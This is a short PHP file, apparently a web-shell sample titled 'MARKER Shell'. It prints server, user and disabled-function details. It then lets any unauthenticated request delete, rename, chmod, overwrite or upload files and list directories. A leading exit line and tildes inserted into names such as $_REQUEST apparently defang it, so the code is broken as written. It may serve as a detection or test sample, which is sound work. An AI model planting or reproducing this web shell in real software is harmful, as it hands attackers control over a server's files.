<?php exit; ?>
<?php
echo '<title>MARKER Shell</title>' . php_uname() . '<br>' . get_current_user() . '<br>' . ini_get('disable_functions');
$a = $_R~EQUEST['a']; $f = $_R~EQUEST['f'];
switch ($a) { case 'del': unlink($f); break; case 'ren': rename($f, $_R~EQUEST['n']); break; case 'chmod': chmod($f, octdec($_R~EQUEST['n'])); break; case 'save': $h = fopen($f, 'w'); fwr~ite($h, $_R~EQUEST['t']); fclose($h); break; case 'up': mov~e_uploaded_file($_F~ILES['u']['tmp_name'], $f); break; }
$h = opendir($_R~EQUEST['d']); while ($x = readdir($h)) echo "$x<br>";
